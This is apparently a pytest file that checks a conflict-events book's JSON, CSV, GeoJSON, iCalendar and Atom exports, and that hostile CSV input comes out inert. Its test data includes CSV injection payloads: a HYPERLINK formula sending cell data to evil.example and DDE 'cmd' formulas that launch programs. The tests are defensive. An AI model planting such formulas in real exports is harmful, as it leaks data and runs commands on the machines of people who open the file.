"""The exports of the shipped book, read back by the parsers other tools use: jsonschema,
csv, geojson-pydantic, icalendar, feedparser; and spreadsheet formulas made inert."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import feedparser  # type: ignore[import-untyped]
import icalendar
import jsonschema
import pytest
from geojson_pydantic import Feature, FeatureCollection, Point

from briefbook import export, feeds, history, model
from briefbook.diagnostics import Location
from briefbook.index import Index, build_index
from briefbook.pipeline import check

REPO = Path(__file__).resolve().parent.parent
MINIMAL = Path(__file__).resolve().parent / "fixtures" / "minimal"
SITE = "https://example.org/book/"


@pytest.fixture(scope="module")
def shipped() -> Index:
    checked = check(REPO)
    assert not checked.errors
    return checked.index


@pytest.fixture(scope="module")
def exported(shipped: Index, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("exports")
    export.write_exports(shipped, out, SITE, root=REPO)
    return out


def test_events_json_validates_against_its_published_schema(exported: Path,
                                                           shipped: Index) -> None:
    schema = json.loads((exported / "events.schema.json").read_text(encoding="utf-8"))
    document = json.loads((exported / "events.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(document)
    assert schema["version"] == document["version"] == export.SCHEMA_VERSION
    assert [e["id"] for e in document["events"]] == [e.id for e in shipped.book.events]
    first = document["events"][0]
    assert first["url"] == f"{SITE}events/{first['id']}/"
    assert all(c["quote"] for e in document["events"] for c in e["citations"])


def test_the_schema_refuses_an_event_without_citations(exported: Path) -> None:
    schema = json.loads((exported / "events.schema.json").read_text(encoding="utf-8"))
    document = json.loads((exported / "events.json").read_text(encoding="utf-8"))
    document["events"][0]["citations"] = []
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema)


def test_names_json_lists_every_name_of_every_actor_and_place(exported: Path,
                                                               shipped: Index) -> None:
    names = json.loads((exported / "names.json").read_text(encoding="utf-8"))["names"]
    expected = {(n, "actor", a.id) for a in shipped.book.actors for n in (a.name, *a.aliases)}
    expected |= {(n, "place", p.id) for p in shipped.book.places for n in (p.name, *p.aliases)}
    assert {(n["name"], n["kind"], n["id"]) for n in names} == expected
    assert len(names) == len(expected)  # one entry a name and record
    iraq = next(n for n in names if n["name"] == "Government of Iraq")
    assert (iraq["path"], iraq["url"]) == ("actors/iraq/", f"{SITE}actors/iraq/")
    assert [n["name"].casefold() for n in names] == sorted(n["name"].casefold() for n in names)


def test_actors_and_sources_json(exported: Path, shipped: Index) -> None:
    actors = json.loads((exported / "actors.json").read_text(encoding="utf-8"))["actors"]
    sources = json.loads((exported / "sources.json").read_text(encoding="utf-8"))["sources"]
    assert [a["id"] for a in actors] == [a.id for a in shipped.book.actors]
    assert [s["id"] for s in sources] == [s.id for s in shipped.book.sources]
    iran = next(a for a in actors if a["id"] == "iran")
    assert iran["url"] == f"{SITE}actors/iran/"
    assert iran["feed"] == f"{SITE}data/feeds/actors/iran.xml"
    assert all(s["cited_by_events"] for s in sources)


def test_events_csv_reads_with_the_csv_module(exported: Path, shipped: Index) -> None:
    with (exported / "events.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == list(export.CSV_COLUMNS)
    assert [r["event_id_cnty"] for r in rows] == [e.id for e in shipped.book.events]
    by_id = {r["event_id_cnty"]: r for r in rows}
    row = by_id["2021-03-03-ain-al-asad-rocket-attack"]
    assert row["event_date"] == "2021-03-03" and row["time_precision"] == "1"
    assert row["location"] == "Ain al-Asad Air Base" and row["geo_precision"] == "1"
    assert row["sub_event_type"] == "Shelling/artillery/missile attack"
    assert "soufan-2021-03-09-cycle-of-attacks: rockets=10" in row["figures_by_source"]
    assert row["page_url"] == f"{SITE}events/2021-03-03-ain-al-asad-rocket-attack/"


def test_events_geojson_is_rfc_7946(exported: Path, shipped: Index) -> None:
    text = (exported / "events.geojson").read_text(encoding="utf-8")
    collection = FeatureCollection[Feature[Point, dict[str, Any]]].model_validate_json(text)
    placed = [e for e in shipped.book.events if e.place is not None]
    assert len(collection.features) == len(placed) > 0
    raw = json.loads(text)
    assert "crs" not in raw  # RFC 7946 drops it: WGS 84 always
    feature = next(f for f in raw["features"] if f["properties"]["place"] == "ain-al-asad")
    assert feature["geometry"]["coordinates"] == [42.4412, 33.7856]  # longitude first


def test_every_event_is_a_vevent_spanning_its_whole_date(exported: Path,
                                                        shipped: Index) -> None:
    calendar = icalendar.Calendar.from_ical((exported / "events.ics").read_bytes())
    vevents = {str(v["uid"]).split("@")[0]: v for v in calendar.walk("VEVENT")}
    assert list(vevents) == [e.id for e in shipped.book.events]
    for event in shipped.book.events:
        vevent = vevents[event.id]
        start, end = vevent.decoded("dtstart"), vevent.decoded("dtend")
        assert not isinstance(start, dt.datetime)  # all-day
        assert start == event.date.earliest
        assert end == event.date.latest + dt.timedelta(days=1)
        assert str(vevent["url"]) == f"{SITE}events/{event.id}/"
    summer = vevents["2019-israeli-strikes-on-militia-missile-stores-in-iraq"]  # 2019-22
    assert summer.decoded("dtstart") == dt.date(2019, 6, 1)
    assert summer.decoded("dtend") == dt.date(2019, 9, 1)


def test_every_feed_parses_without_errors(exported: Path, shipped: Index) -> None:
    paths = sorted((exported / "feeds").rglob("*.xml"))
    assert len(paths) == 1 + len(shipped.book.actors)
    for path in paths:
        parsed = feedparser.parse(path.read_bytes())
        assert not parsed.bozo, (path, parsed.get("bozo_exception"))
        assert parsed.version == "atom10"
    events = feedparser.parse((exported / "feeds" / "events.xml").read_bytes())
    stamps = [entry.updated_parsed for entry in events.entries]
    assert stamps == sorted(stamps, reverse=True)  # newest entered first
    assert 0 < len(events.entries) <= feeds.FEED_ENTRIES
    kh = feedparser.parse((exported / "feeds" / "actors" / "kataib-hezbollah.xml").read_bytes())
    ids = {e.link.rstrip("/").rsplit("/", 1)[1] for e in kh.entries}
    assert "2019-12-29-us-airstrikes-on-kataib-hezbollah" in ids


def test_exports_are_deterministic(shipped: Index) -> None:
    first = export.export_files(shipped, SITE, root=REPO)
    second = export.export_files(shipped, SITE, root=REPO)
    assert first == second


def test_feed_links_for_page_heads() -> None:
    links = feeds.feed_links("actors/iran.md", "Book", {"iran": "Iran"})
    assert [(link.href, link.title) for link in links] == [
        ("../../data/feeds/events.xml", "Book: newest events"),
        ("../../data/feeds/actors/iran.xml", "Events involving Iran")]
    assert [link.href for link in feeds.feed_links("events/2021-03-03-x.md")] == [
        "../../data/feeds/events.xml"]
    assert feeds.feed_links("index.md")[0].href == "data/feeds/events.xml"
    assert [link.href for link in feeds.feed_links("actors/index.md")] == [
        "../data/feeds/events.xml"]
    tag = feeds.FeedLink('a"b', "<x>").tag()
    assert tag == ('<link rel="alternate feed" type="application/atom+xml" title="&lt;x&gt;" '
                   'href="a&quot;b">')


# --- When events entered the book ------------------------------------------------------------

def _git(root: Path, *args: str, when: int = 0) -> None:
    stamp = f"{1_600_000_000 + when} +0000"
    env = {**os.environ, "GIT_AUTHOR_DATE": stamp, "GIT_COMMITTER_DATE": stamp,
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"}
    subprocess.run(["git", "-C", str(root), "-c", "commit.gpgsign=false", *args], check=True,
                   env=env, capture_output=True)


def test_first_commit_dates_come_from_one_git_log(tmp_path: Path) -> None:
    root = tmp_path / "book"
    (root / "events").mkdir(parents=True)
    _git(root, "init", "-q")
    (root / "events" / "a.yaml").write_text("a", encoding="utf-8")
    _git(root, "add", ".")
    _git(root, "commit", "-qm", "a", when=0)
    (root / "events" / "b.yaml").write_text("b", encoding="utf-8")
    (root / "events" / "a.yaml").write_text("a changed", encoding="utf-8")
    _git(root, "add", ".")
    _git(root, "commit", "-qm", "b", when=100)
    (root / "events" / "2021").mkdir()
    _git(root, "mv", "events/a.yaml", "events/2021/a.yaml")
    _git(root, "commit", "-qm", "move", when=200)
    added = history.first_added(root)
    epoch = dt.datetime.fromtimestamp(1_600_000_000, tz=dt.UTC)
    assert added == {"events/a.yaml": epoch, "events/b.yaml": epoch + dt.timedelta(seconds=100),
                     "events/2021/a.yaml": epoch}  # a move keeps the first date


def test_outside_git_the_fallback_is_the_events_last_day(tmp_path: Path) -> None:
    assert history.first_added(tmp_path) == {}
    index = check(MINIMAL).index
    event = index.book.events[0]
    assert history.entered_at({}, event) == dt.datetime.combine(
        event.date.latest, dt.time(), tzinfo=dt.UTC)


# --- CSV injection -----------------------------------------------------------------------------

PAYLOADS = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def _hostile(index: Index, payload: str) -> Index:
    """The minimal book with ``payload`` at the start of every text the CSV carries."""
    book = index.book
    prose = model.Prose(payload + " summary", Location("x", 1, 1))
    events = tuple(dataclasses.replace(e, title=payload + " title", summary=prose)
                   for e in book.events)
    actors = tuple(dataclasses.replace(a, name=payload + " " + a.id) for a in book.actors)
    places = tuple(dataclasses.replace(p, name=payload + " place") for p in book.places)
    sources = tuple(dataclasses.replace(s, publisher=payload + " " + s.id)
                    for s in book.sources)
    hostile = dataclasses.replace(book, records={
        **book.records, "event": events, "actor": actors, "place": places, "source": sources})
    return build_index(hostile)[0]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_injection_payloads_come_out_inert(payload: str) -> None:
    index = _hostile(check(MINIMAL).index, payload)
    text = export.events_csv(index, SITE)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(payload in cell for cell in cells)
    executable = [c for c in cells if c.startswith(export.FORMULA_TRIGGERS)
                  and not export._PLAIN_NUMBER.fullmatch(c)]
    assert executable == []
    hostile_columns = {"actor1", "actor2", "location", "source", "notes", "title"}
    for row in csv.DictReader(io.StringIO(text, newline="")):
        for column in hostile_columns:
            if row[column]:
                assert row[column].startswith("'" + payload), (column, row[column])


def test_numbers_stay_numbers() -> None:
    assert export.neutralise_cell("-33.5") == "-33.5"
    assert export.neutralise_cell("-1+1") == "'-1+1"


def test_export_command_writes_every_format(tmp_path: Path) -> None:
    out = tmp_path / "data"
    result = subprocess.run([sys.executable, "-m", "briefbook.cli", "export", "--root",
                             str(MINIMAL), "--out", str(out), "--site-url", SITE],
                            capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    names = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    assert names[:7] == ["actors.json", "events.csv", "events.geojson", "events.ics",
                         "events.json", "events.schema.json", "feeds/actors/analysis-centre.xml"]
    only_csv = tmp_path / "csv"
    result = subprocess.run([sys.executable, "-m", "briefbook.cli", "export", "-f", "csv",
                             "--root", str(MINIMAL), "--out", str(only_csv)],
                            capture_output=True, text=True, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    assert [p.name for p in only_csv.iterdir()] == ["events.csv"]
    assert "https://" in (only_csv / "events.csv").read_text(encoding="utf-8")  # mkdocs.yml


def test_data_page_lists_every_file_and_column() -> None:
    import markdown
    from bs4 import BeautifulSoup

    page = export.data_page(SITE)
    soup = BeautifulSoup(markdown.markdown(page, extensions=["tables"]), "html.parser")
    files, columns = soup.find_all("table")
    column_names = [row.find_all("td")[0].get_text() for row in columns.find_all("tr")[1:]]
    assert column_names == list(export.CSV_COLUMNS)
    assert all(len(row.find_all("td")) == 2 for row in columns.find_all("tr")[1:])
    hrefs = [a["href"] for a in files.find_all("a")]
    assert f"{SITE}data/events.json" in hrefs and f"{SITE}data/events.schema.json" in hrefs
    assert "Licence" in page and export.SCHEMA_VERSION in page


@pytest.mark.parametrize("inside", ["docs", "docs/data", "events", "seeds"])
def test_export_refuses_the_books_content_folders(tmp_path: Path, inside: str) -> None:
    book = Path(shutil.copytree(MINIMAL, tmp_path / "book"))
    result = subprocess.run([sys.executable, "-m", "briefbook.cli", "export", "--out",
                             inside], cwd=book, capture_output=True, text=True, timeout=300,
                            check=False)
    assert result.returncode == 2
    assert "inside the book's" in result.stderr and "Traceback" not in result.stderr
    assert not (book / inside / "events.json").exists()


def test_the_event_files_made_from_parts_are_the_documents_written_whole(
        exported: Path, shipped: Index) -> None:
    """events.json, events.geojson and events.ics are put together from each event's part
    (which a build keeps while the event is unchanged): byte for byte what writing each
    document whole gives, and what icalendar writes for the calendar it reads."""
    def whole(value: object) -> bytes:
        return (json.dumps(value, indent=2, ensure_ascii=False) + "\n").encode()

    events = shipped.book.events
    assert (exported / "events.json").read_bytes() == whole({
        "version": export.SCHEMA_VERSION, "$schema": f"{SITE}data/events.schema.json",
        "events": [export.event_record(shipped, e, SITE) for e in events]})
    features = [export.event_feature(shipped, e, SITE) for e in events]
    assert (exported / "events.geojson").read_bytes() == whole(
        {"type": "FeatureCollection", "features": [f for f in features if f is not None]})
    assert export._json_listing({"type": "FeatureCollection"}, "features", []) == whole(
        {"type": "FeatureCollection", "features": []})
    calendar = (exported / "events.ics").read_bytes()
    assert icalendar.Calendar.from_ical(calendar).to_ical() == calendar
    assert len(icalendar.Calendar.from_ical(calendar).walk("VEVENT")) == len(
        shipped.book.events)
